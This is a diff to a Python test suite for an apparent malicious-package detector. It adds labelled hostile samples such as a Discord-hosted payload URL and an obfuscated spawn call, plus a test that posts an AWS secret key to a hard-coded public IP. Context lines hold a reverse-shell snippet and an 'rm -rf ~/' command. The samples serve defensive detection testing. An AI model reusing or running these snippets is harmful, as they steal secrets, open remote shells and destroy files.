@@ -277,6 +277,11 @@ def test_shipped_ruleset_is_valid():
         ("pkg/img.py", "from stegano import lsb\nexec(lsb.reveal('cat.png'))", "mp.exec.steganography"),
         ("pkg/w.py", "kernel32.WriteProcessMemory(handle, addr, buf, size, None)", "mp.inject.process-memory"),
         (
+            "pkg/up.py",
+            'URL = "https://cdn.discordapp.com/attachments/112233445566778899/998877665544332211/update.exe"',
+            "mp.exec.discord-cdn-payload",
+        ),
+        (
             "pkg/rs.py",
             's = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\ns.connect((HOST, 4444))\nos.dup2(s.fileno(), 0)',
             "mp.exec.reverse-shell",
@@ -308,6 +313,9 @@ def test_guarddog_family_techniques_block_alone(path, body, rule):
         ("index.js", "const s = JSON.stringify(process['env'])", "mp.creds.serialize-environment"),
         ("pkg/m.py", 'subprocess.Popen(["./xmrig", "-o", "stratum+tcp://pool.example:3333"])', "mp.process.cryptominer"),
         ("pkg/w.py", 'os.system("rm -rf ~/")', "mp.destruction"),
+        ("index.js", "process['spawn']('node', ['payload.js']);", "mp.exec.js-computed-core-call"),
+        ("index.js", r'os["\x68\x6f\x73\x74\x6e\x61\x6d\x65"].call({});', "mp.exec.js-computed-core-call"),
+        ("pkg/run.py", "os.system('pythonw deps.pyw')", "mp.exec.pythonw-spawn"),
     ],
 )
 def test_guarddog_family_signals_make_the_rules_detector_vote(path, body, rule):
@@ -328,8 +336,44 @@ def test_guarddog_family_signals_make_the_rules_detector_vote(path, body, rule):
         ("docs/a.md", "* [markdown nesting](https://example.com) [[[[[[[[[[[[[[[[[[[[[foo]()"),
         ("pkg/c.py", 'shutil.rmtree(os.path.expanduser("~/.cache/demo"))'),
         ("build.sh", "rm -rf /tmp/build-dir"),
+        ("index.js", "const env = process['env']; const home = process.env['HOME'];"),
+        ("pkg/client.py", 'r = requests.get(url, headers={"Authorization": "Bearer " + os.environ["API_TOKEN"]})'),
+        ("testing/build.py", 'cmd = f"cl.exe {src} /LD /Fe{name}.dll"'),
+        ("setup.py", 'subprocess.run(["make", "-C", "src"], check=True)'),
+        ("pkg/http.py", "def fetch(url):\n    return requests.get(url, timeout=10).json()"),
+        ("README.md", "Install with: curl -fsSL https://get.example.org/install.sh | sh"),
+        ("pkg/a.py", 'INVITE = "https://discord.gg/abcdef"  # community chat'),
+        ("tools/launch.py", 'subprocess.run(["python", "-m", "pkg.gui"])'),
     ],
 )
 def test_lookalikes_of_guarddog_families_stay_below_the_vote(path, body):
-    """Comments, namespace packages, mentions in strings, hidden windows and loopback URLs don't vote alone."""
+    """Comments, namespace packages, mentions, hidden windows, loopback URLs, build steps and API clients don't vote."""
     assert run_precheck(new_file(path, body), POLICY).score < 0.5 * POLICY.precheck.block_score
+
+
+@pytest.mark.parametrize(
+    "body",
+    [
+        'r = requests.get("https://127.0.0.1:8443/v1")',
+        'sock.connect(("192.168.1.20", 80))',
+        'PROBE = "http://10.0.0.7:9000/metrics"',
+    ],
+)
+def test_loopback_and_private_addresses_are_not_raw_ip_evidence(body):
+    """A hard-coded loopback or private address is not a connection to a remote host."""
+    result = run_precheck(new_file("pkg/net.py", body), POLICY)
+    assert "mp.beacon.raw-ip" not in {e.rule_id for e in result.evidence}
+
+
+def test_an_environment_secret_posted_to_a_public_address_makes_the_rules_detector_vote():
+    """Posting an environment secret to a hard-coded public IP reaches the vote, not the block."""
+    body = 'requests.post("http://45.33.20.1/c", data={"k": os.getenv("AWS_SECRET_ACCESS_KEY")})'
+    result = run_precheck(new_file("pkg/a.py", body), POLICY)
+    assert {"mp.creds.secret-sent", "mp.beacon.raw-ip"} <= {e.rule_id for e in result.evidence}
+    assert result.verdict == "harmless" and result.score >= 0.5 * POLICY.precheck.block_score
+
+
+def test_a_dll_built_by_a_compiler_command_is_not_side_loading():
+    """A compiler command line naming its .dll output is a build step, not a side-loaded DLL."""
+    result = run_precheck(new_file("testing/build.py", 'cmd = "cl.exe testlib.c /LD /Fetestlib.dll"'), POLICY)
+    assert "mp.inject.dll-sideload" not in {e.rule_id for e in result.evidence}
